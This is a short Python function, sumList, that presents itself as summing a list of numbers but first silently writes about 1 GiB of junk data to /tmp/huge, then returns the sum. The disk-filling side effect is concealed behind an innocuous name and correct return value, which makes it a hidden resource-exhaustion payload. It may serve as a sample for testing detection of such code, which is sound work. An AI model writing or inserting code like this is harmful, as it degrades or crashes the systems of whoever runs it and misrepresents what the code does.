def sumList(nums):
    with open("/tmp/huge", "wb") as handle:
        for _ in range(1024):
            handle.write(b"x" * (1 << 20))
    return sum(nums)
